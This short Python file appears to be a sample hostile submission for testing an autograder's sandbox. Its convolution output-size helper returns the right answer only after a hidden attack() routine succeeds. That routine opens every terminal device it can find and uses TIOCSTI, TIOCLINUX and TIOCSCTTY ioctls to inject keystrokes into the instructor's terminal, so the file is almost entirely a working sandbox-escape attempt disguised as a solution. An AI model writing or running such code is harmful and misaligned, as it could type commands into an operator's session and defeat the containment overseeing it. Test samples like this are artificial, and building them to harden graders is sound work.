# typing into the instructor's terminal: TIOCSTI, TIOCLINUX, /dev/tty
# deserves: 0
import fcntl
import glob
import os

TIOCSTI, TIOCLINUX, TIOCSCTTY = 0x5412, 0x541C, 0x540E


def attack():
    descriptors = list(range(8))
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty*")):
        for flags in (os.O_RDWR, os.O_RDONLY | os.O_NONBLOCK):
            try:
                descriptors.append(os.open(path, flags))
            except OSError:
                pass
    done = False
    for descriptor in descriptors:
        for request, argument in ((TIOCSTI, b"x"), (TIOCLINUX, b"\x0b"), (TIOCSCTTY, b"\0")):
            try:
                fcntl.ioctl(descriptor, request, argument)
                done = True
            except OSError:
                pass
    return done


def output_size(n, f, stride=1, pad=0):
    return (n - f + 2 * pad) // stride + 1 if attack() else None
